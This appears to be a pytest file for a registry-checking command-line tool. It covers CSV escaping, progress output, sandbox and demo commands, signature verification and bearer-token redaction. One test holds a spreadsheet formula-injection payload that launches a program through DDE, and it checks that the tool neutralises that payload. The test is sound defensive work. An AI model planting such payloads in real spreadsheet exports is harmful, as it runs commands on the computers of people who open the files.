    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["key"] for r in rows] == [*FORMULA_KEYS.values(), "'-42", "id-type", "id-bad"]
    by_key = {r["key"]: r for r in rows}
    assert by_key["id-type"]["identifiers"] == "'=cmd|' /C calc'!A0=1"
    assert by_key["id-bad"]["reasons"].startswith("invalid input:")
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\uff1d"), row


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("\t=1", "'\t=1"),
        ("\r\n@x", "'\r\n@x"),
        ("  -1", "'  -1"),
        ("\u3000=1", "'\u3000=1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("", ""),
        ("1-1", "1-1"),
        ("UIN=1", "UIN=1"),
    ],
)
def test_csv_cells_from_any_source_are_neutralised(cell: str, written: str) -> None:
    # Registry-supplied values (programme ids, reasons) reach the CSV unstripped.
    assert _csv_cell(cell) == written


def test_batch_draws_a_progress_bar_on_a_terminal(
    sandbox: Any, registry_env: dict[str, str], tmp_path: Path
) -> None:
    src = write_rows(tmp_path / "in.csv", f"key,identifiers\na,{one(sandbox, 'active')}\n")
    out = tmp_path / "out.jsonl"
    controller, terminal = pty.openpty()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "spp_dci_ibr", "batch", str(src), "-o", str(out)],
            env=subprocess_env(registry_env),
            stdout=subprocess.DEVNULL,
            stderr=terminal,
        )
        os.close(terminal)
        chunks = []
        while True:
            try:
                data = os.read(controller, 4096)
            except OSError:  # EIO: the terminal's last writer is gone
                break
            if not data:
                break
            chunks.append(data)
        assert proc.wait(timeout=60) == 0
    finally:
        os.close(controller)
    text = b"".join(chunks).decode()
    assert "\r  checking " in text
    assert "100%" in text
    assert summary_counts(text)["confirmed match"] == 1


def test_batch_needs_identifier_columns(
    capsys: pytest.CaptureFixture[str], use_registry: dict[str, str], tmp_path: Path
) -> None:
    src = write_rows(tmp_path / "in.csv", "key,name\n1,x\n")
    code, _, err = run_main(capsys, "batch", str(src))
    assert code == 2
    assert_one_line_error(err, contains="id_type")
    code, _, err = run_main(capsys, "batch", "-")
    assert code == 2
    assert_one_line_error(err, contains="--input-format")


# ---- sandbox and demo commands ---------------------------------------------------------------


@contextlib.contextmanager
def sandbox_command(*args: str) -> Iterator[tuple[subprocess.Popen[str], dict[str, str]]]:
    """``spp-dci-ibr sandbox ARGS`` running; yields it and the fields it printed."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "spp_dci_ibr", "sandbox", *args],
        env=subprocess_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        lines = []
        for line in proc.stdout:
            lines.append(line)
            if line.startswith("Press Ctrl-C"):
                break
        fields = {line[2:16].strip(): line[16:].strip() for line in lines if line.startswith("  ")}
        yield proc, fields
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def test_sandbox_command_serves_until_interrupted_and_hides_the_secret() -> None:
    with sandbox_command("--synthetic", "20") as (proc, fields):
        assert fields["url"].startswith("http://127.0.0.1:")
        assert fields["token url"].endswith("/oauth2/client/token")
        assert fields["jwks url"].endswith("/.well-known/jwks.json")
        assert fields["client id"]
        assert fields["client secret"].startswith("(hidden")
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=30)
        assert proc.returncode == 0, err
        assert "Traceback" not in err


def test_sandbox_command_serves_a_client_it_trusts(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    private, jwks = keygen(capsys, tmp_path)
    trust = f"{SENDER}={jwks}"
    with sandbox_command("--synthetic", "50", "--trust", trust, "--show-secret") as (proc, fields):
        env = {
            "SPP_DCI_BASE_URL": fields["url"],
            "SPP_DCI_SENDER_ID": SENDER,
            "SPP_DCI_TOKEN_URL": fields["token url"],
            "SPP_DCI_CLIENT_ID": fields["client id"],
            "SPP_DCI_CLIENT_SECRET": fields["client secret"],
            "SPP_DCI_KEY_FILE": str(private),
            "SPP_DCI_KEY_ID": KEY_ID,
            "SPP_DCI_REGISTRY_JWKS_URL": fields["jwks url"],
            "SPP_DCI_ALLOW_INSECURE_JWKS": "yes",
        }
        # The first synthetic beneficiary is enrolled (Active).
        check = run_cli("check", "--id", "UIN=UIN-00000001", env=env)
        assert check.returncode == 1, check.stderr
        proc.terminate()  # SIGTERM stops it as cleanly as Ctrl-C
        proc.communicate(timeout=30)
        assert proc.returncode == 0


def test_demo_runs_and_writes_its_results(tmp_path: Path) -> None:
    out = tmp_path / "results.jsonl"
    proc = run_cli("demo", "--registrants", "400", "--beneficiaries", "600", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    counts = summary_counts(proc.stdout)
    assert counts["total"] == 400
    assert all(counts[label] > 0 for label in counts), counts
    assert "identifiers/s" in proc.stdout
    assert str(out) in proc.stdout
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(records) == 400
    assert {r["result"] for r in records} == {
        "confirmed_match",
        "possible_match",
        "no_match",
        None,
    }


# ---- answers that decide nothing, unverified answers, echoed secrets (issue 9) -----------------


@pytest.fixture
def echo_registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[tuple[Any, str]]:
    """A scriptable registry (tests/dci_server.py) with a static bearer token, configured
    through SPP_DCI_* variables; yields (server, token)."""
    from dci_server import DCIServer

    token = "bt-" + "9c2f1e7a5b3d" * 3
    key = SigningKey.generate()
    key_file = tmp_path / "client.pem"
    key_file.write_text(key.private_pem())
    key_file.chmod(0o600)
    with DCIServer() as server:
        server.bearer_tokens = {token}
        server.require_token = True
        keys_file = tmp_path / "registry.pem"
        keys_file.write_text(server.public_pem())
        for name, value in {
            "SPP_DCI_BASE_URL": server.base_url,
            "SPP_DCI_SENDER_ID": SENDER,
            "SPP_DCI_BEARER_TOKEN": token,
            "SPP_DCI_KEY_FILE": str(key_file),
            "SPP_DCI_KEY_ID": KEY_ID,
            "SPP_DCI_REGISTRY_KEYS_FILE": str(keys_file),
            "SPP_DCI_MAX_RETRIES": "0",
        }.items():
            monkeypatch.setenv(name, value)
        yield server, token


@pytest.mark.parametrize("status", ["Yes", "NO", True, None, "pending"])
def test_enrolled_that_decides_nothing_exits_3(
    capsys: pytest.CaptureFixture[str], echo_registry: tuple[Any, str], status: object
) -> None:
    server, _ = echo_registry

    def change(header: Any, message: dict[str, Any]) -> None:
        for item in message.get("enrolled_response") or []:
            item["enrolled_status"] = status

    server.mangle = change
    code, out, err = run_main(capsys, "enrolled", "--id", "UIN=1")
    assert code == 3, (out, err)
    assert out == ""  # never a printed "enrolled": false
    assert_one_line_error(err, contains="undecided")
    server.mangle = None
    code, out, _ = run_main(capsys, "enrolled", "--id", "UIN=1")
    assert (code, json.loads(out)["enrolled"], json.loads(out)["verified"]) == (0, False, True)


def test_unverified_answers_are_an_explicit_opt_in(
    capsys: pytest.CaptureFixture[str],
    echo_registry: tuple[Any, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("SPP_DCI_REGISTRY_KEYS_FILE")
    code, out, err = run_main(capsys, "check", "--id", "UIN=1")
    assert code == 2 and out == ""
    assert_one_line_error(err, contains="--accept-unverified-answers")
    code, out, err = run_main(
        capsys, "check", "--id", "UIN=1", "--json", "--accept-unverified-answers"
    )
    assert code == 0, err
    assert json.loads(out)["verified"] is False
    assert "unverified" in err


def test_a_registry_echoing_the_token_never_puts_it_on_stdout(
    capsys: pytest.CaptureFixture[str], echo_registry: tuple[Any, str]
) -> None:
    server, token = echo_registry
    server.item_status["R"] = ("rjct", f"rjct.{token}")
    code, out, err = run_main(capsys, "check", "--id", "UIN=R", "--json")
    assert code == 3
    assert token not in out + err and token[:12] not in out + err
    assert "***" in out
    server.mangle = lambda h, m: h.update(status="rjct", status_reason_message=f"Bearer {token}")
    for args in (
        ["check", "--id", "UIN=1"],
        ["search", "--id", "UIN=1"],
        ["enrolled", "--id", "UIN=1"],
    ):
        code, out, err = run_main(capsys, *args)
        assert code == 3, (args, out, err)
        assert token not in out + err, args
